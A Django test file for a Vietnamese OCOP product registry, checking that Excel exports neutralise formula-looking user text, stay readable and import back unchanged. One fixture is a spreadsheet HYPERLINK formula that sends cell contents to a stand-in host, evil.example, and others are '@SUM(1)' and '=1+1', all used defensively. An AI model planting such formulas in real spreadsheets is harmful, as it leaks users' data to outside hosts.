"""Product and producer exports: no live formula from user text, a readable sheet, names instead of bare ids,
and an export that still imports back unchanged."""

import io

from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from products.models import Product

from .factories import ProductFactory

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Xem giá")'


def _book(response):
    assert response.status_code == 200
    return load_workbook(io.BytesIO(response.content))


def test_it_exports_a_formula_looking_product_name_as_text(cast, login):
    ProductFactory(producer=cast.producer, name=HOSTILE, search_text="hyperlink", brand="@SUM(1)")
    ws = _book(login(cast.commune_officer).get(reverse("products:product_export"))).active
    cells = [cell for row in ws.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert ws["C2"].value == "'" + HOSTILE and ws["E2"].value == "'@SUM(1)"


def test_it_imports_the_neutralised_export_back_unchanged(cast, login):
    product = ProductFactory(producer=cast.producer, name="-Mật ong rừng", search_text="mat ong")
    client = login(cast.commune_officer)
    exported = client.get(reverse("products:product_export"))
    response = client.post(reverse("products:product_import"), {"file": SimpleUploadedFile("e.xlsx", exported.content)})
    assert response.status_code == 302
    assert list(Product.objects.filter(producer=cast.producer).values_list("name", flat=True)) == [product.name]


def test_it_neutralises_producer_fields_too(cast, login):
    cast.producer.__class__.objects.filter(pk=cast.producer.pk).update(phone="+84 912 345 678", address="=1+1")
    ws = _book(login(cast.commune_officer).get(reverse("products:producer_export"))).active
    row = {header.value: cell.value for header, cell in zip(ws[1], ws[2], strict=True)}
    assert row["Điện thoại"] == "'+84 912 345 678" and row["Địa chỉ"] == "'=1+1"


def test_the_product_export_is_readable_and_names_the_product_set(cast, login):
    product = ProductFactory(producer=cast.producer, name="Miến dong", search_text="mien dong")
    book = _book(login(cast.commune_officer).get(reverse("products:product_export")))
    ws = book.active
    assert ws.freeze_panes == "A2" and ws.auto_filter.ref == "A1:N2"
    assert ws.column_dimensions["F"].width == 60 and ws["F2"].alignment.wrap_text  # the description
    assert ws["D2"].value == f"{product.product_set.number}. {product.product_set.name}"
    assert book.properties.title == "Danh sách sản phẩm OCOP" and book.properties.creator


def test_the_producer_export_and_the_templates_are_readable(cast, login):
    client = login(cast.commune_officer)
    for response in (
        client.get(reverse("products:producer_export")),
        client.get(reverse("products:import_template", args=["products"])),
    ):
        book = _book(response)
        assert book.active.freeze_panes == "A2" and book.active.auto_filter.ref
        assert book.properties.title and book.properties.creator
        assert all(book.active.column_dimensions[c].width for c in "ABC")
